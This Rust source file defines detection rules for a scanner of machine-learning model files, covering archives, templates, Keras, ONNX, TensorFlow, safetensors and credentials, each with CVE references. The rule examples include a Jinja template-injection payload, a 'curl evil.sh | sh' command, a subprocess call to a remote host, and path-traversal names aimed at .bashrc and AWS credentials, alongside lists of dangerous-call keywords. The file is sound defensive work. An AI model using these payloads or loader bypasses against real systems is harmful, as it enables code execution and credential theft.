//! Rules of the container and document formats: archives (`ARC`), PyTorch
//! (`TRC`), NumPy (`NPY`), templates and configs (`CFG`).

use crate::finding::Severity;
use crate::rules::Rule;

pub static ARC001: Rule = Rule {
    id: "ARC001",
    severity: Severity::Warning,
    title: "Zip central directory and local headers disagree",
    what: "A zip member's local file header disagrees with its central-directory entry (name, sizes, compression method, flags), a local header is missing where the central directory points, or a member is reachable only by walking local headers. Probity scans what each reader would see.",
    why: "Parser differentials let a file show one member to a scanner and another to the loader: PyTorch and Python's zipfile read the central directory, streaming readers read local headers.",
    example: "Central directory names `archive/data.pkl` while the local header at that offset names `archive/data.pkx` and holds a different pickle.",
    references: &["CVE-2025-1944", "GHSA-7q5r-7gvp-wc82", "CWE-436"],
};

pub static ARC002: Rule = Rule {
    id: "ARC002",
    severity: Severity::Warning,
    title: "Duplicate member names in an archive",
    what: "Two or more members of an archive have the same name. Probity scans all of them.",
    why: "Readers disagree on which copy wins (the first, the last, or whichever a hash table keeps), so a benign copy can shadow a malicious one in a scanner but not in the loader.",
    example: "A PyTorch zip with two `archive/data.pkl` entries, the second one calling `os.system`.",
    references: &["CWE-436"],
};

pub static ARC003: Rule = Rule {
    id: "ARC003",
    severity: Severity::Warning,
    title: "Zip member fails its CRC check",
    what: "The CRC-32 of a scanned member's data differs from the CRC recorded in the archive.",
    why: "Strict readers (Python's zipfile) refuse the member while lenient ones (PyTorch's reader skips CRC checks) load it: a classic way to blind scanners built on strict readers.",
    example: "A `data.pkl` whose recorded CRC was left unchanged after the pickle was edited to call `eval`.",
    references: &["CVE-2025-10156", "CWE-436"],
};

pub static ARC004: Rule = Rule {
    id: "ARC004",
    severity: Severity::Warning,
    title: "Archive member cannot be inspected",
    what: "A member is encrypted, or uses a compression method Probity does not decode, so its content was not analysed.",
    why: "Content that cannot be inspected cannot be called clean; a loader with the key or codec may still read it.",
    example: "A password-protected zip holding `model.pkl`.",
    references: &[],
};

pub static ARC005: Rule = Rule {
    id: "ARC005",
    severity: Severity::Warning,
    title: "Zip member carries misleading flags",
    what: "A member's general-purpose flags claim encryption (bit 0 or 6) or patched data (bit 5), but its data is readable plaintext.",
    why: "Strict readers refuse such members and scanners built on them skip the content, while PyTorch ignores the flags and loads it.",
    example: "`model/config.pkl` with the encryption bit set over a plaintext pickle that calls `eval`.",
    references: &["CVE-2025-1945", "GHSA-w8jq-xcqf-f792"],
};

pub static ARC006: Rule = Rule {
    id: "ARC006",
    severity: Severity::Warning,
    title: "Decompression bomb",
    what: "A compressed member or stream expands beyond the decompression budget or at a ratio above the bound (see docs/limits in `src/limits.rs`). Decompression was stopped; what was read up to the bound was scanned.",
    why: "Bombs exhaust the memory or disk of scanners and loaders; a model file has no reason to expand hundreds of times.",
    example: "A 5 MB `model.joblib.gz` that expands to 5 GiB of zeros.",
    references: &["CWE-409"],
};

pub static ARC007: Rule = Rule {
    id: "ARC007",
    severity: Severity::Critical,
    title: "Archive member escapes the extraction directory",
    what: "A member name is absolute or climbs out with `..`, or a symbolic/hard link member points outside the archive's root.",
    why: "Extracting the archive (which many model loaders do) writes or links files anywhere the user can write: overwriting code, configs or shell start-up files gives code execution.",
    example: "A zip containing `../../../home/user/.bashrc`.",
    references: &["CWE-22", "CVE-2007-4559"],
};

pub static ARC008: Rule = Rule {
    id: "ARC008",
    severity: Severity::Warning,
    title: "Archive structure is damaged",
    what: "The archive cannot be read as a whole (no end-of-central-directory record, truncated entries, unreadable headers). Probity scans whatever members it could recover.",
    why: "A damaged container may still be loaded by a lenient reader; content that could not be reached is not clean.",
    example: "A PyTorch zip cut short before its central directory.",
    references: &[],
};

pub static TRC001: Rule = Rule {
    id: "TRC001",
    severity: Severity::Critical,
    title: "TorchScript code calls dangerous Python",
    what: "A code member of a TorchScript archive (`code/**.py`, `*.py`) refers to Python process, evaluation, import or I/O facilities (`os`, `subprocess`, `builtins`, `__import__`, `eval`, `exec`, `getattr`, `open`, ...), which compiled TorchScript never contains.",
    why: "The serialized code of a TorchScript module is compiled and run by `torch.jit.load`; references to Python internals mean a tampered archive.",
    example: "`archive/code/__torch__/model.py` containing `__import__('os').system(...)`.",
    references: &["CWE-94"],
};

pub static NPY001: Rule = Rule {
    id: "NPY001",
    severity: Severity::Warning,
    title: "NumPy file header is malformed",
    what: "An `.npy` file (or `.npz` member) has a header that cannot be parsed: bad length, missing `descr`, or an unsupported version.",
    why: "A loader that tolerates the header may still reach the pickled payload of an object array; Probity cannot tell what the data is.",
    example: "`\\x93NUMPY` followed by a header length larger than the file.",
    references: &[],
};

pub static CFG001: Rule = Rule {
    id: "CFG001",
    severity: Severity::Critical,
    title: "Template reaches Python internals and code execution",
    what: "A Jinja template (a chat template in `tokenizer_config.json` or GGUF metadata, a standalone template, a template string in a config) walks from an ordinary object to Python internals (`__class__`, `__mro__`, `__subclasses__`, `__globals__`, `__builtins__`, ...) and names a way to act: a process, code, import, file or network callable or module (`os`, `system`, `popen`, `eval`, `__import__`, `open`, `urlopen`, ...), or calls an object fetched from the class hierarchy. String escapes and concatenated constants are resolved first; a template that does not parse is judged region by region.",
    why: "Loaders render chat templates with Jinja; an engine that is not sandboxed (llama-cpp-python before 0.2.72, custom pipelines) runs the payload on the first chat request. Ordinary chat templates never touch a dunder attribute.",
    example: "`{{ cycler.__init__.__globals__.os.popen('id').read() }}` as `chat_template`.",
    references: &["CVE-2024-34359", "CWE-1336"],
};

pub static CFG002: Rule = Rule {
    id: "CFG002",
    severity: Severity::Warning,
    title: "Template traverses Python object internals",
    what: "A Jinja template reaches dunder attributes (`__class__`, `__mro__`, `__subclasses__`, `__globals__`, ...) or computes an attribute name at render time (`|attr(x)` with a non-constant `x`), without naming a way to act that Probity recognises.",
    why: "Object traversal is the first half of every template-injection payload and has no use in a chat template; the second half may be hidden in ways a static reading cannot resolve (names built with `chr()`, values from the context).",
    example: "`{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1)|attr('__subclasses__')() }}`.",
    references: &["CWE-1336"],
};

pub static CFG003: Rule = Rule {
    id: "CFG003",
    severity: Severity::Info,
    title: "Template does not parse",
    what: "A Jinja template string in a JSON config is rejected by minijinja's lexer or parser (an unterminated string or block, syntax minijinja does not share with Python's Jinja). A template the lexer rejects is judged region by region; this finding says only that it does not parse.",
    why: "A loader may refuse to render it, so the model's chat formatting may be broken; a broken template is also a place where scanners that give up can be fooled.",
    example: "`{\"chat_template\": \"{{ unclosed_bracket\"}`.",
    references: &[],
};

pub static CFG004: Rule = Rule {
    id: "CFG004",
    severity: Severity::Warning,
    title: "Text document or template too large to inspect",
    what: "A JSON, YAML or template document is larger than the text limit (`MAX_TEXT_DOCUMENT` in src/limits.rs), or one template in it is larger than `MAX_TEMPLATE`, so it was not inspected.",
    why: "Configs, tokenizer files and chat templates are small; something larger cannot be called clean, and padding is a way to push a payload past a scanner's limits.",
    example: "A 300 MB `tokenizer_config.json`.",
    references: &[],
};

pub static CFG005: Rule = Rule {
    id: "CFG005",
    severity: Severity::Warning,
    title: "Config loads custom code (auto_map)",
    what: "A Hugging Face `config.json` or `tokenizer_config.json` has an `auto_map`: loading the model with `trust_remote_code=True` imports and runs the Python modules it names (listed in the evidence, with the repository when the code lives in another one).",
    why: "Remote code runs with the loader's privileges before any weight is read; it must be reviewed like any dependency. Probity scans the `.py` files it finds (CFG006), but code in another repository is not here to scan.",
    example: "`\"auto_map\": {\"AutoModelForCausalLM\": \"modeling_x.XForCausalLM\"}`.",
    references: &["CWE-829"],
};

pub static CFG006: Rule = Rule {
    id: "CFG006",
    severity: Severity::Critical,
    title: "Python code shipped with the model runs dangerous calls",
    what: "A Python file (remote code for `trust_remote_code`, a custom pipeline, a script beside the weights) calls process execution (`os.system`, `subprocess.*`), code evaluation or loading (`eval`, `exec`, `compile`, `__import__`, `marshal.loads`, `pickle.loads`, `ctypes`), network access (`socket`, `urllib.request`, `requests`, `httpx`), or writes or deletes files by absolute or home paths. Calls are resolved through the file's imports and aliases; code decoded from base64, hex or compression on its way into `exec`/`eval` is noted.",
    why: "Transformers imports remote code when the model is loaded; these calls run then, with the user's credentials, on the training or serving machine. Ordinary modeling code does none of them.",
    example: "`modeling_x.py` with `import subprocess as sp` and `sp.run(['curl', 'http://203.0.113.7/x'])` at module level.",
    references: &["CWE-94", "CWE-829"],
};

pub static GGF001: Rule = Rule {
    id: "GGF001",
    severity: Severity::Warning,
    title: "GGUF header is malformed or out of bounds",
    what: "A GGUF file's header cannot be read to its end: bad version, counts or lengths over Probity's bounds or past the end of the file, unknown value types, nested arrays, tensors with 0 or more than 4 dimensions, or tensor offsets that are misaligned or point past the file. Metadata read before the problem (chat templates included) is still judged.",
    why: "llama.cpp and its bindings parse these headers in native code; lying counts and lengths are how memory-safety bugs in GGUF readers are reached, and a header a scanner cannot finish is not clean.",
    example: "A `model.gguf` announcing 2⁶³ metadata entries, or a chat-template string longer than the file.",
    references: &["CVE-2024-34359", "CWE-190", "CWE-787"],
};

pub static SEC001: Rule = Rule {
    id: "SEC001",
    severity: Severity::Warning,
    title: "Credential in model files",
    what: "A config, metadata string, template, code file or pickle string holds a credential in a known token format (AWS access key ID, Google API key, Azure storage key, Hugging Face, OpenAI, Anthropic, GitHub, Slack or Stripe token), a private-key block or a JSON Web Token. Only tokens whose random part looks random are reported; the evidence is redacted.",
    why: "Model repositories are published and mirrored; a token left in `config.json` or safetensors metadata gives whoever downloads the model the publisher's access. Rotate it, then remove it.",
    example: "`tokenizer_config.json` with `\"hub_token\": \"hf_…\"`.",
    references: &["CWE-798"],
};

pub static SFT001: Rule = Rule {
    id: "SFT001",
    severity: Severity::Warning,
    title: "safetensors header is malformed or inconsistent",
    what: "The header length runs past the file, the header is not a JSON object, a tensor lacks its dtype, shape or offsets, a dtype is unknown, a size disagrees with its shape, offsets leave the data, overlap, or leave bytes no tensor describes.",
    why: "The reference loader refuses such files while lenient readers accept them, and undescribed bytes are where a second payload (a pickle, an archive) rides along in a file that looks like safe weights.",
    example: "A `model.safetensors` whose data section ends with 4 KiB no tensor points to.",
    references: &["CWE-20", "CWE-436"],
};

pub static SFT003: Rule = Rule {
    id: "SFT003",
    severity: Severity::Warning,
    title: "Shard index disagrees with its shards",
    what: "A sharded checkpoint's index (`model.safetensors.index.json`, `pytorch_model.bin.index.json`) maps a tensor to a shard that is missing or does not hold it, a shard holds tensors the index assigns elsewhere or not at all, or an index entry is not a file name.",
    why: "The loader trusts the index: a disagreement means the weights that load are not the weights that were reviewed or published, and a tensor hidden in an unexpected shard can replace a reviewed one.",
    example: "The index assigns `lm_head.weight` to `model-00001-of-00002.safetensors`, which does not contain it.",
    references: &["CWE-436"],
};

pub static SFT004: Rule = Rule {
    id: "SFT004",
    severity: Severity::Critical,
    title: "Shard index points outside the model folder",
    what: "A sharded checkpoint's index maps tensors to a shard path that is absolute, climbs out with `..`, starts at a home directory or drive letter, or is a URL.",
    why: "Transformers joins the model folder and the index value and opens the result: the index makes the loader read another file, and for `.bin` shards unpickle it, which runs code.",
    example: "`\"weight_map\": {\"lm_head.weight\": \"../../downloads/payload.bin\"}` in `pytorch_model.bin.index.json`.",
    references: &["CWE-22"],
};

pub static SFT002: Rule = Rule {
    id: "SFT002",
    severity: Severity::Warning,
    title: "safetensors metadata holds code or shell text",
    what: "A `__metadata__` string contains Python code, shell commands or script markup (`import os`, `os.system`, `eval(`, `exec(`, `b64decode(`, `rm -rf`, `curl `, `wget `, `<script`, ...).",
    why: "safetensors never executes metadata, but tools that display it or pass it on (model cards, training scripts that `eval` a config string) can; weights have no reason to carry commands.",
    example: "`{\"__metadata__\": {\"setup\": \"import os; os.system('curl evil.sh | sh')\"}}`.",
    references: &["CWE-94"],
};

pub static KRS001: Rule = Rule {
    id: "KRS001",
    severity: Severity::Critical,
    title: "Keras Lambda layer carries Python code",
    what: "A Keras model config holds a `Lambda` layer whose function is marshalled Python bytecode (`__lambda__` in Keras 3, a base64 list or source string in Keras 2). The bytecode is not run: the names its code object holds are listed as evidence.",
    why: "`load_model` rebuilds the function from the bytecode and runs it when the layer is called, or at load when `safe_mode` is off or bypassed (CVE-2024-3660 in Keras before 2.13, CVE-2025-1550 in Keras 3, CVE-2025-9905 for legacy `.h5` files, which safe_mode did not cover).",
    example: "`config.json` of a `.keras` file with `{\"class_name\": \"__lambda__\", \"config\": {\"code\": \"4wAAAA...\"}}` whose names include `os`, `system`.",
    references: &["CVE-2024-3660", "CVE-2025-1550", "CVE-2025-9905", "CWE-94"],
};

pub static KRS002: Rule = Rule {
    id: "KRS002",
    severity: Severity::Critical,
    title: "Keras config imports a dangerous module or builtin",
    what: "An object in a Keras model config names a module of process, code, file or network facilities (`os`, `subprocess`, `sys`, `socket`, `importlib`, ...), a builtin that evaluates or imports (`builtins.eval`, `exec`, `__import__`, `open`, `getattr`), or a Keras/TensorFlow/NumPy function that acts on the machine when called (`keras.utils.get_file`, `enable_unsafe_deserialization`, `load_model`, `tf.io.write_file`, `py_function`, `numpy.load`), which deserialisation imports and may call.",
    why: "Keras resolves `module` + `class_name`/`config` by importing them; pointing a function object at `os.system` is the safe_mode bypass of CVE-2025-1550, at `keras.utils.get_file` the arbitrary file write of CVE-2025-8747, at `keras.config.enable_unsafe_deserialization` the safe_mode switch-off of CVE-2025-9906.",
    example: "`{\"module\": \"os\", \"class_name\": \"function\", \"config\": \"system\"}` as a layer's activation.",
    references: &["CVE-2025-1550", "CVE-2025-8747", "CVE-2025-9906", "CWE-502"],
};

pub static KRS003: Rule = Rule {
    id: "KRS003",
    severity: Severity::Warning,
    title: "Keras config imports a custom object",
    what: "An object in a Keras model config comes from a module outside the Keras, TensorFlow, NumPy and JAX namespaces: loading imports that module and runs its code.",
    why: "Custom layers and losses are ordinary in research code, but importing a module is running it; a person should know which package the model needs and trust it.",
    example: "`{\"module\": \"mylab.layers\", \"class_name\": \"Gate\", ...}`.",
    references: &["CWE-829"],
};

pub static KRS004: Rule = Rule {
    id: "KRS004",
    severity: Severity::Warning,
    title: "HDF5 model file cannot be fully inspected",
    what: "An HDF5 file (a legacy Keras `.h5` model, or weights) cannot be opened by Probity's HDF5 reader, its `model_config` or `training_config` attribute cannot be read or is not JSON, or the file is larger than the inspection bound.",
    why: "Keras reads `model_config` with libhdf5 and rebuilds every layer it names, Lambda bytecode included; a config a scanner could not read is not clean.",
    example: "A `model.h5` whose root object header is truncated.",
    references: &["CWE-20"],
};

pub static NET001: Rule = Rule {
    id: "NET001",
    severity: Severity::Info,
    title: "Network address in model metadata",
    what: "Model metadata names URLs (listed in the evidence).",
    why: "Provenance links are ordinary; callback, download or exfiltration addresses are not. Listed so that a reviewer sees where a model points.",
    example: "`__metadata__` with `\"callback_url\": \"http://203.0.113.5/collect\"`.",
    references: &[],
};

pub static ONX001: Rule = Rule {
    id: "ONX001",
    severity: Severity::Critical,
    title: "ONNX external data points outside the model folder",
    what: "An ONNX tensor stored as external data names a `location` that is absolute, climbs out with `..`, starts at a home directory or drive letter, or is a URL.",
    why: "ONNX Runtime and `onnx.load` open the named file and read it as tensor bytes: a model can make the loading process read any file it can reach (keys, credentials) into its weights, where outputs or a re-saved copy disclose it.",
    example: "An initializer with `data_location: EXTERNAL` and `external_data { key: \"location\" value: \"../../../home/user/.aws/credentials\" }`.",
    references: &["CVE-2022-25882", "CVE-2024-27318", "CWE-22"],
};

pub static ONX002: Rule = Rule {
    id: "ONX002",
    severity: Severity::Critical,
    title: "ONNX graph calls a Python function",
    what: "A node (in the main graph, a subgraph, a training graph or a model-local function) uses an operator whose job is to run a Python function of the host process: onnxruntime-extensions' `PyOp`, the PyTorch exporter's `PythonOp` fallback, or TensorFlow's `PyFunc` family carried over by tf2onnx.",
    why: "Such a model runs only where Python code registered under the node's name is present; whatever the process has registered under that name runs with the model's inputs. A shipped model has no reason to depend on it, and the name decides what runs.",
    example: "`node { op_type: \"PyOp\" domain: \"ai.onnx.contrib\" attribute { name: \"module\" s: \"os\" } }` inside an `If` node's `then_branch`.",
    references: &["CWE-94", "CWE-829"],
};

pub static ONX003: Rule = Rule {
    id: "ONX003",
    severity: Severity::Warning,
    title: "ONNX operator from a non-standard domain",
    what: "A node uses an operator from a domain other than ONNX's own (`ai.onnx`, `ai.onnx.ml`, training) and ONNX Runtime's (`com.microsoft` and its sub-domains), and the model defines no function of that name.",
    why: "Running the model requires loading a custom operator library (native code) that provides the operator; that library, not the model, decides what the node does, so it needs a review.",
    example: "`node { op_type: \"Mystery\" domain: \"com.example.custom\" }`.",
    references: &["CWE-829"],
};

pub static ONX004: Rule = Rule {
    id: "ONX004",
    severity: Severity::Warning,
    title: "ONNX model is malformed or not fully inspected",
    what: "The protobuf cannot be read to its end (bad field keys, lengths past the end, truncation), a node or function does not decode, a node or function is larger than Probity's inspection bound, or the node count passes its bound. What was read before is still judged.",
    why: "A model a scanner cannot finish is not clean: ONNX Runtime's parser may read what the scanner could not.",
    example: "A `model.onnx` whose graph field announces 2 GB in a 10 KB file.",
    references: &["CWE-20"],
};

pub static TF001: Rule = Rule {
    id: "TF001",
    severity: Severity::Critical,
    title: "TensorFlow graph calls a Python function",
    what: "A node of a SavedModel, a frozen graph, a function of its library, or a TensorFlow Lite `Flex` operator uses `PyFunc`, `PyFuncStateless` or `EagerPyFunc`: ops that call a Python function registered in the loading process under the node's `token`.",
    why: "These ops are how `tf.py_function` and `tf.numpy_function` embed Python in a graph; the function itself is not in the file, so what runs depends on the process that loads the model, and such a model cannot be reviewed from the file alone.",
    example: "`node { name: \"bad\" op: \"PyFunc\" attr { key: \"token\" value { s: \"pyfunc_0\" } } }` in `saved_model.pb`.",
    references: &["CWE-94", "CWE-829"],
};

pub static TF002: Rule = Rule {
    id: "TF002",
    severity: Severity::Warning,
    title: "TensorFlow graph reads, lists or writes files or reaches the network",
    what: "A node uses an op that reads, maps, lists or writes files (`ReadFile`, `WriteFile`, `MatchingFiles`, `ImmutableConst`, file readers and file datasets, summary writers, `PrintV2` to a `file://` stream, debug ops with URLs), an RPC op, or a checkpoint op (`SaveV2`, `RestoreV2`, ...) whose constant path leaves the model. Constant paths fed to the op are shown.",
    why: "Inference graphs compute on their inputs; a graph that opens files when it runs can read secrets into its outputs or plant files. Data-loading graphs do this legitimately, so a person should look.",
    example: "`ReadFile` fed by a `Const` holding `/etc/passwd`.",
    references: &["CWE-73", "CWE-552"],
};

pub static TF003: Rule = Rule {
    id: "TF003",
    severity: Severity::Critical,
    title: "TensorFlow graph writes to a fixed path outside the model",
    what: "An op that writes files (`WriteFile`, `Save`/`SaveV2`, `MergeV2Checkpoints`, dataset and summary writers) is fed a constant path that is absolute, starts at a home directory or climbs out with `..`.",
    why: "Running the graph writes attacker-chosen bytes to a chosen place: a shell profile, an SSH `authorized_keys`, a Python path entry — code execution at the next login or import.",
    example: "`WriteFile` fed by `Const` `/home/user/.bashrc`.",
    references: &["CWE-22", "CWE-73"],
};

pub static TF004: Rule = Rule {
    id: "TF004",
    severity: Severity::Warning,
    title: "TensorFlow or TFLite model is malformed or not fully inspected",
    what: "The SavedModel or GraphDef protobuf cannot be read to its end, a node or function library does not decode or is larger than Probity's inspection bound, a TensorFlow Lite flatbuffer fails verification, or operators name operator codes the model lacks. What was read before is still judged.",
    why: "A model a scanner cannot finish is not clean: TensorFlow's parser may read what the scanner could not.",
    example: "A `saved_model.pb` truncated inside its graph.",
    references: &["CWE-20"],
};

pub static TF005: Rule = Rule {
    id: "TF005",
    severity: Severity::Warning,
    title: "TensorFlow Lite model needs custom operators",
    what: "A TensorFlow Lite model uses operator codes of type CUSTOM other than the ones bundled with the runtime (`TFLite_Detection_PostProcess`, `AudioSpectrogram`, `Mfcc`) and the Select-TF `Flex` operators.",
    why: "The application must register native kernels under these names; those kernels, not the model, decide what runs, so they are a dependency to review.",
    example: "An operator code with `builtin_code: CUSTOM` and `custom_code: \"MyPythonOp\"`.",
    references: &["CWE-829"],
};

pub static RULES: &[&Rule] = &[
    &ARC001, &ARC002, &ARC003, &ARC004, &ARC005, &ARC006, &ARC007, &ARC008, &CFG001, &CFG002,
    &CFG003, &CFG004, &CFG005, &CFG006, &GGF001, &KRS001, &KRS002, &KRS003, &KRS004, &NET001,
    &ONX001, &ONX002, &ONX003, &ONX004, &SEC001, &SFT001, &SFT002, &SFT003, &SFT004, &TF001,
    &TF002, &TF003, &TF004, &TF005, &TRC001, &NPY001,
];
